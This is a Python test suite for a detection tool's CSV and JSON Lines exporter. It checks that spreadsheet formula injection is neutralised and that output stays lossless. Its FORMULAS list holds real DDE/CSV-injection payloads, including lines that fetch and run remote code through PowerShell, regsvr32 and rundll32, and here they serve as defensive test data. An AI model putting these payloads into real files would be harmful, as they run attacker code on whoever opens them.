"""core.output.export: JSON Lines lose nothing, and CSV holds no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.detection.detections import detect
from core.output.export import FORMULA_STARTS, csv_lines, guarded, json_lines, unguarded
from core.output.formats import FORMATS
from core.output.safe_file import write_whole
from core.processes.process import ProcessCreation
from core.rows.columns import EXPORTED
from core.rows.row import Row, row_of
from tests.core.builders import process
from tests.core.log_reading import steady
from tests.core.output.exports import export
from tests.core.strategies import any_process, utf16_text

STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n", "\0", "'"]
BLANKS = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\u200d",
    "\u2060",
    "\u200e",
    "\u202e",
    "\u00ad",
    "\ufeff",
    "\u3000",
    "\v",
    "\f",
    "\x1f",
    "\u0085",
    "\u2028",
    " \u00a0\ufeff ",
]
UNSEEN = {
    chr(code)
    for code in (
        *(0xAD, 0x61C, 0x180E, 0xFEFF),
        *range(0x200B, 0x2010),
        *range(0x202A, 0x202F),
        *range(0x2060, 0x2070),
    )
}
"""Characters without a width, or that turn the direction of a text."""
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "+cmd|'/C calc'!A0",
    "-3+2+cmd |' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c powershell.exe -nop -w 1 $e=(New-Object "
    "System.Net.WebClient).DownloadString(\"http://a.example/\");IEX $e'!'A1'",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://192.0.2.1/cmd.sct scrobj.dll'!''",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=1+2'\" ;,=1+2",
]
"""As met in public repositories."""

TEXT_FIELDS = (
    "image_path",
    "command_line",
    "user",
    "fqdn",
    "parent_command_line",
    "rule_name",
    "channel",
)
TRICKY = st.text(alphabet="".join({*STARTS, *BLANKS}) + 'a";,1', max_size=8)
ANY_TEXT = st.text(alphabet=st.characters(), max_size=40) | TRICKY


def _row(creation: ProcessCreation, rule: str = "strict") -> Row:
    (found,) = detect([creation])
    return row_of(found, rule, "22" * 32)


def _read_back(lines: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(lines, newline="")))


def _is_live(cell: str) -> bool:
    """Tell, by a look at each character, whether a formula may begin behind what a spreadsheet trims."""
    for letter in cell:
        if letter in STARTS[:-1]:
            return True
        if not letter.isspace() and letter not in UNSEEN and letter != '"':
            return False
    return False


def _fields(text: str) -> Iterator[str]:
    """Give all that a spreadsheet may take for a cell where semicolons or tabs separate, quoted or not."""
    for delimiter in ";\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from line
    yield from re.split("[;\t\r\n]", text)


def test_the_dangerous_beginnings_are_these() -> None:
    """OWASP's set, ASVS's NUL, the full-width forms, and the apostrophe that makes it reversible."""
    expected = frozenset(STARTS)

    assert expected == FORMULA_STARTS


@pytest.mark.parametrize("blanks", BLANKS, ids=ascii)
@pytest.mark.parametrize("start", STARTS, ids=ascii)
def test_a_dangerous_beginning_is_guarded(start: str, blanks: str) -> None:
    """At the very beginning and behind whatever a spreadsheet may trim."""
    text = f"{blanks}{start}1+2"

    assert (f"'{text}", f"'{blanks}{start}") == (guarded(text), guarded(f"{blanks}{start}"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_neutral(formula: str) -> None:
    """A cell that begins with an apostrophe is text."""
    assert guarded(formula).startswith(f"'{formula[:10]}")
    assert not [field for field in _fields(guarded(formula)) if _is_live(field)]


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "a",
        "1=1",
        "C:\\a-b.exe",
        "cmd /c =1",
        "a;b",
        "a\tb\nc",
        "a,=1",
        " a",
        "\u00a0",
        '"',
        "\u2212",
        "_",
    ],
)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    """Only the beginning of a cell decides, and a comma begins none: the cell is quoted."""
    assert text == guarded(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("a;=1", "a;'=1", id="semicolon"),
        pytest.param("a\t=1", "a\t'=1", id="tab"),
        pytest.param("a\r=1", "a\r'=1", id="carriage-return"),
        pytest.param("a\n=1", "a\n'=1", id="line-feed"),
        pytest.param("a\r\n=1", "a\r'\n'=1", id="line-end"),
        pytest.param("a; \u200b+1", "a;' \u200b+1", id="behind-blanks"),
        pytest.param('a;"=1"', 'a;\'"=1"', id="behind-a-quote"),
        pytest.param('a; " @x', "a;' \" @x", id="behind-blanks-and-a-quote"),
        pytest.param('"=1"', '\'"=1"', id="a-quote-first"),
        pytest.param("a;b;-1;c;=2", "a;b;'-1;c;'=2", id="several"),
        pytest.param("=1;=2", "'=1;'=2", id="first-and-inside"),
        pytest.param("a;'b", "a;''b", id="apostrophe"),
        pytest.param(";;=1", ";;'=1", id="empty-before"),
    ],
)
def test_what_another_separator_makes_a_cell_is_guarded_too(text: str, expected: str) -> None:
    """A spreadsheet that separates by semicolons or tabs sees cells inside ours."""
    assert (expected, text) == (guarded(text), unguarded(expected))


@pytest.mark.parametrize(
    "unit", ["\n", "\n ", '\t"', ";", "; ", '"', " ", "'", ";'", "=", "\u200b\r\n"], ids=ascii
)
def test_a_hostile_text_is_guarded_in_linear_time(unit: str) -> None:
    """32,000 characters, as a log can hold them."""
    text = unit * (32_000 // len(unit)) + "a"

    began = time.perf_counter()
    cell = guarded(text)

    assert text == unguarded(cell)
    assert time.perf_counter() - began < 0.5


@given(ANY_TEXT)
@example("'")
@example("''")
@example("'=1")
@example(" '")
@example(" '=1")
@example("a;'=1")
@example("a;''")
@example("'\t'\t'")
@example(";\n;'\r\n=")
@example("\u00a0'")
@example("'\u00a0")
@example(" ")
@example("")
def test_guarding_can_be_undone(text: str) -> None:
    """For every text, also those that begin with a blank and an apostrophe, or hold one behind a separator."""
    assert text == unguarded(guarded(text))


@given(ANY_TEXT)
def test_no_guarded_text_is_live(text: str) -> None:
    """Whatever it was, a spreadsheet does not take it for a formula."""
    assert not [field for field in _fields(guarded(text)) if _is_live(field)]


@given(ANY_TEXT, ANY_TEXT)
def test_guarding_keeps_different_texts_apart(one: str, other: str) -> None:
    """Two values never become the same cell."""
    assert (one == other) is (guarded(one) == guarded(other))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_field_is_neutral_in_csv(formula: str) -> None:
    """The tool's own file must not become what it is looking for."""
    texts = dict.fromkeys(TEXT_FIELDS, formula)
    (_, cells) = _read_back("".join(csv_lines([_row(process(**texts))])))
    held = dict(zip(EXPORTED, cells, strict=True))

    assert dict.fromkeys(texts, guarded(formula)) == {name: held[name] for name in texts}
    assert not [cell for cell in cells if _is_live(cell)]


@given(TRICKY)
@example("a;=cmd|'/c calc'!A0")
@example('a";=1')
@example('a"\t"=1')
@example("a\r\n=1,;=2")
@example('",=1')
@steady
def test_no_field_of_csv_is_live_whatever_separates(text: str) -> None:
    """By commas, semicolons or tabs; quoted or taken as they stand."""
    lines = "".join(csv_lines([_row(process(**dict.fromkeys(TEXT_FIELDS, text)))]))

    cells = [cell for line in _read_back(lines) for cell in line]
    assert not [field for field in (*cells, *_fields(lines)) if _is_live(field)]


def test_csv_has_a_heading_and_a_line_for_each_row() -> None:
    """The keys, then the texts of the columns, quoted, lines ended as RFC 4180 says."""
    rows = [_row(process(command_line='a "b", c\r\nd')), _row(process(command_line="\0"))]
    heading, *lines = csv_lines(rows)

    assert heading == ",".join(f'"{key}"' for key in EXPORTED) + "\r\n"
    assert all(line.startswith('"strict",') and line.endswith('"\r\n') for line in lines)
    assert [[guarded(column.text(row)) for column in EXPORTED.values()] for row in rows] == [
        cells for line in lines for cells in _read_back(line)
    ]


def test_csv_of_no_rows_is_its_heading() -> None:
    """So that a reader of the file sees what was asked."""
    assert [list(EXPORTED)] == _read_back("".join(csv_lines([])))


@given(st.lists(any_process(), max_size=3))
@steady
def test_csv_read_back_is_what_was_written(creations: list[ProcessCreation]) -> None:
    """Quotes, separators, line ends and NUL within a cell stay within it, and each cell can be unguarded."""
    rows = [_row(creation) for creation in creations]
    _, *found = _read_back("".join(csv_lines(rows)))

    assert [[column.text(row) for column in EXPORTED.values()] for row in rows] == [
        [unguarded(cell) for cell in cells] for cells in found
    ]


@given(ANY_TEXT)
def test_any_text_is_one_cell_of_csv(text: str) -> None:
    """Also one that no reader gives, such as half a surrogate pair."""
    rows = [_row(process(command_line=text))]
    (heading, cells) = _read_back("".join(csv_lines(rows)))

    assert text == unguarded(cells[heading.index("command_line")])


def test_csv_survives_its_file(tmp_path: Path) -> None:
    """With the mark that makes Excel read UTF-8."""
    rows = [_row(process(command_line=text)) for text in ("caf\u00e9 \U0001f4c4", "a\r\nb\rc\nd", "\0")]
    target = tmp_path / "flags.csv"
    write_whole(target, lambda stream: FORMATS["csv"].write(stream, export(rows)))

    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as file:
        assert _read_back("".join(csv_lines(rows))) == list(csv.reader(file))


def test_a_flag_is_one_line_of_json() -> None:
    """All keys in their order; lists, numbers and null keep their kind."""
    (line,) = json_lines([_row(process(sid=None, pid=2**64 - 1))])
    found = json.loads(line)
    expected = (["seed", "published", "strict"], 2**64 - 1, None, None)

    assert list(EXPORTED) == list(found)
    assert expected == (found["matched"], found["pid"], found["sid"], found["record_sha256"])


@given(utf16_text())
@example("\ud800")
@example("\udfff\ud800")
@example("\x00\x1b\x7f\x85\u2028\u202e\ufeff")
@example('"\\\n\r')
def test_json_lines_lose_no_text(text: str) -> None:
    """Any sixteen-bit units that a log can hold, in ASCII and on one line."""
    row = _row(process(command_line=text, user=text))
    (line,) = json_lines([msgspec.structs.replace(row, file_sha256=text)])
    found = json.loads(line)

    assert line.isascii()
    assert line.index("\n") == len(line) - 1
    assert [text] * 3 == [found[key] for key in ("command_line", "user", "file_sha256")]


@given(st.lists(any_process(), max_size=3))
@steady
def test_json_lines_lose_no_value(creations: list[ProcessCreation]) -> None:
    """Each line is the row's values; only tuples become lists."""
    rows = [_row(creation) for creation in creations]

    assert [_as_json({key: column.value(row) for key, column in EXPORTED.items()}) for row in rows] == [
        json.loads(line) for line in json_lines(rows)
    ]


def _as_json(value: object) -> object:
    """Make lists of tuples, and nothing else."""
    if isinstance(value, dict):
        return {key: _as_json(inner) for key, inner in value.items()}
    if isinstance(value, list | tuple):
        return [_as_json(inner) for inner in value]
    return value
